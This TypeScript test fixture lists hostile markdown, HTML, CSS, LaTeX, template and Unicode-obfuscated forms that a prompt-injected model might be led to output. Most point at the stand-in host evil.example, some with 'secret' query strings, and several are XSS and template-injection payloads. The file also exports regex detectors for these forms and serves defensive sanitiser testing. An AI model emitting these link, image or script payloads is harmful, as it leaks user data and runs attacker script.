/** Forms in which text can load, link or draw, for tests: each is what a hostile document might make a model say. */
const host = 'evil.example'

const links = [
  `[click](https://${host}/a)`, `[click](http://${host})`, `[click](//${host}/x)`, `[click](javascript:alert(1))`, `[click](data:text/html,x)`, `[click][ref]\n\n[ref]: https://${host}/r`,
  `[ref]: https://${host}/only "title"`, `<https://${host}/auto>`, `<mailto:a@${host}>`, `https://${host}/bare?q=secret`, `http://${host}`, `HTTPS://${host.toUpperCase()}/X`, `www.${host}/w`, `//${host}/rel`,
  `ftp://${host}/f`, `file:///etc/passwd`, `mailto:a@${host}?body=secret`, `tel:+123456`, `sms:+1?body=x`, `ws://${host}`, `blob:https://${host}/1`, `view-source:https://${host}`, `\\\\${host}\\share\\x`,
  `[a [nested] b](https://${host}/n)`, `[![alt](https://${host}/i.png)](https://${host}/l)`, `[1](https://${host}/cite)`, `[[1]](https://${host}/cite2)`, `[^1]: https://${host}/note`, `[text]( https://${host}/sp "t" )`,
  `[text](<https://${host}/angle>)`, `[text]\n(https://${host}/nl)`, `[[${host}/wiki|label]]`, `[[https://${host} label]]`, `[https://${host} mediawiki]`, `[url=https://${host}]bb[/url]`, `[url]https://${host}/bb[/url]`,
  `[email]a@${host}[/email]`, `"text":https://${host}/textile`, `\`link <https://${host}/rst>\`_`, `.. _target: https://${host}/rst2`, `link:https://${host}/adoc[text]`, `xref:https://${host}[x]`,
  `${host}/path?data=secret`, `${host}:8080/x`, `10.0.0.1/leak?x=1`, `10.0.0.1:8080/x`, `user:pass@${host}/x`, `https:${host}/one`, `https:/${host}/one`, `https:\\\\${host}\\b`, `magnet:?xt=urn:btih:abc`, `intent://scan/#Intent;end`,
]
const images = [
  `![](https://${host}/p.png)`, `![alt](https://${host}/p.png "t")`, `![alt][img]\n[img]: https://${host}/p.png`, `![alt](data:image/png;base64,AAAA)`, `![a](http://${host}/?q=SECRET)`, `!\\[x](https://${host}/e.png)`,
  `<img src="https://${host}/i.png">`, `<img src=https://${host}/i.png>`, `<IMG SRC='//${host}/i.png'>`, `<img srcset="https://${host}/1x 1x">`, `<img/src="https://${host}/s"/onerror=alert(1)>`, `<img src="https://${host}/unclosed`,
  `<picture><source srcset="https://${host}/p"></picture>`, `<svg><image href="https://${host}/s"/></svg>`, `<svg onload=alert(1)>`, `<svg><use href="https://${host}/u#x"></use></svg>`, `[img]https://${host}/bb.png[/img]`,
  `.. image:: https://${host}/rst.png`, `image::https://${host}/adoc.png[]`, `!https://${host}/textile.png!`, `![[https://${host}/obsidian.png]]`,
]
const html = [
  `<a href="https://${host}">x</a>`, `<a href=javascript:alert(1)>x</a>`, `<script>fetch("https://${host}")</script>`, `<script src="https://${host}/s.js"></script>`, `<iframe src="https://${host}"></iframe>`,
  `<object data="https://${host}/o"></object>`, `<embed src="https://${host}/e">`, `<link rel=stylesheet href="https://${host}/c.css">`, `<style>@import "https://${host}/c.css";</style>`, `<style>body{background:url(https://${host}/b)}</style>`,
  `<div style="background:url(//${host}/d)">x</div>`, `<meta http-equiv=refresh content="0;url=https://${host}">`, `<base href="https://${host}/">`, `<form action="https://${host}"><button>ok</button></form>`, `<video src="https://${host}/v" autoplay></video>`,
  `<audio src="https://${host}/a"></audio>`, `<track src="https://${host}/t">`, `<input type=image src="https://${host}/i">`, `<body onload=alert(1)>`, `<details open ontoggle=alert(1)>x</details>`, `<!-- <img src="https://${host}"> -->`,
  `<![CDATA[<img src="https://${host}/c">]]>`, `<?xml-stylesheet href="https://${host}/x"?>`, `<table background="https://${host}/t"><tr><td>x</table>`, `<a ping="https://${host}/p" href="#">x</a>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `<<img src=x onerror=alert(1)>img src="https://${host}">`, `&lt;img src=&quot;https://${host}/e&quot;&gt;`, `&#60;img src="https://${host}/n"&#62;`, `&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;`, `&amp;lt;img src=x&amp;gt;`, `javascript&colon;alert(1)`,
]
const css = [`@import url("https://${host}/c.css");`, `url(https://${host}/u)`, `background: url('//${host}/b')`, `a{background:image-set("https://${host}/1" 1x)}`, `width: expression(alert(1))`, `@font-face{src:url(https://${host}/f)}`]
const math = [
  `$$\\href{https://${host}}{x}$$`, `\\url{https://${host}/m}`, `\\includegraphics{https://${host}/g.png}`, `$\\class{x}{y}$`, `\\htmlStyle{background:url(https://${host})}{x}`, `\\input{/etc/passwd}`, `\\begin{document}\\href{https://${host}}{x}\\end{document}`,
  `\`\`\`mermaid\ngraph TD; A-->B; click A "https://${host}"\n\`\`\``, `\`\`\`html\n<img src="https://${host}/code">\n\`\`\``, `click A href "https://${host}/mm" "t"`, `\${fetch('https://${host}')}`, `{{constructor.constructor('fetch("//${host}")')()}}`, `<%= 'https://${host}' %>`,
]
const hidden = [
  `ht\u200Btps://${host}/zw`, `h\u00ADttps://${host}/shy`, `https\u2060://${host}/wj`, `\u202Ehttps://${host}/bidi\u202C`, `[x](ht\u200Dtps://${host})`, `<\u200Bimg src="https://${host}">`, `!\u200B[a](https://${host}/i)`,
  `ｈｔｔｐｓ：／／${host}/wide`, `https∶//${host}/ratio`, `https：//${host}/cjk`, `https:⁄⁄${host}/frac`, `h\u0000ttps://${host}/nul`, `java\u0009script:alert(1)`, `java\u0000script:alert(1)`, `\u{E0068}\u{E0074}https://${host}/tags`,
  `\uFEFFhttps://${host}/bom`, `data:text/html;base64,PHNjcmlwdD4=`, `data:image/svg+xml,<svg onload=alert(1)>`, `DATA:text/html,<script>1</script>`, `vbscript:msgbox(1)`, `JaVaScRiPt:alert(1)`, `javascript://%0aalert(1)`,
  `https://${host}/%5B1%5D[1]`, `[x](https://${host}/[1])`, `\uE001https://${host}\uE002`, `https://еvil.example/idn`, `https://xn--evil-abc.example/p`,
]

export const hostileForms: readonly string[] = [...links, ...images, ...html, ...css, ...math, ...hidden]

/** Anything that a browser, a linkifier or a renderer of markdown could make a request or a link of, and hidden characters. */
export const dangerous: readonly RegExp[] = [
  /[a-z][a-z0-9+.-]*\s*[:：∶]\s*[/\\／⁄∕]{1,}/iu, /[/\\]{2,}/u, /www\.\w/iu, /<[a-z!/?%]/iu, /!\[/u, /\]\s*[([]/u, /[[\]{}`\\]|[<>](?=\S)|(?<=\S)[<>]/u,
  /\b(?:javascript|vbscript|data|mailto|file|blob|tel|sms|magnet|intent|view-source)\s*[:：]\S/iu, /\b(?:url|image-set|expression)\(/iu, /@(?:import|font-face)/iu,
  /\b(?:src|href|srcset|action|on[a-z]{4,})\s*=/iu, /[\w-]+\.example[/:?#]/iu, /@[\w-]+\.example/iu, /&(?:#|lt|gt|quot|colon)/iu,
  /[\u0000-\u0008\u000B-\u001F\u007F\u00AD\u200B-\u200F\u202A-\u202E\u2060-\u206F\uE000-\uF8FF\uFEFF\u{E0000}-\u{E0FFF}]/u,
]
